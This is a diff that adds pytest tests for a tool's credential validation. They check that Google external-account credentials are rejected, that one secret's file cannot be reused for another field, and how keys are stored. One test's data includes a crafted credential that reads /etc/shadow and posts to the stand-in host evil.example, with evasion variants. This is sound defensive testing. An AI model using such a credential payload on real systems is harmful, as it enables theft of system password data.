@@ -311,6 +311,37 @@ class TestSecrets:
         assert place.read_text() == pem
         assert stat.S_IMODE(place.stat().st_mode) == 0o600
 
+    def test_an_account_that_has_files_of_the_machine_shown_to_somebody_is_none(self, path: Path) -> None:
+        source = '"credential_source": {"file": "/etc/shadow"}, "token_url": "https://evil.example"'
+        for value in (
+            f'{{"type": "external_account", {source}}}',
+            f'{{"type": "service_account", "type": "external_account", {source}}}',
+            f'{{"type": "\\u0065xternal_account", {source}}}',
+            '{"type": ["service_account"]}',
+            "{" + '"a":{' * 3000,
+            "{",
+            "-----BEGIN",
+        ):
+            told = faults(path, wish("calendars.g.kind", "google"), wish("calendars.g.credentials", value))
+            assert "no key" in told["calendars.g.credentials"]
+
+    def test_nor_is_it_by_the_file_of_another_secret(self, path: Path) -> None:
+        write(path, wish("switchboards.main.secret", '{"type": "external_account"}'))
+        (secret,) = (path.parent / "secrets").iterdir()
+        for value in (f"secrets/{secret.name}", str(secret), f" ./secrets/../secrets/{secret.name} "):
+            for field in ("calendars.g.credentials", "calendars.main.ca_file"):
+                told = faults(path, wish("calendars.g.kind", "google"), wish(field, value))
+                assert "another secret" in told[field]
+        write(path, wish("calendars.main.ca_file", "-----BEGIN CERTIFICATE-----"), wish("calendars.main.password", "x"))
+        present = tomllib.loads(path.read_text())["calendars"]["main"]["ca_file"]
+        assert not faults(path, wish("calendars.main.ca_file", present)), "it stays as it is"
+
+    def test_a_key_of_googles_is_kept_as_it_will_be_read(self, path: Path) -> None:
+        value = ' {"type": "external_account", "type": "service_account", "client_email": "a@b"}\n'
+        write(path, wish("calendars.g.kind", "google"), wish("calendars.g.credentials", value))
+        place = path.parent / tomllib.loads(path.read_text())["calendars"]["g"]["credentials"]
+        assert place.read_text() == '{"type": "service_account", "client_email": "a@b"}'
+
 
 class TestHostile:
     @pytest.mark.parametrize(
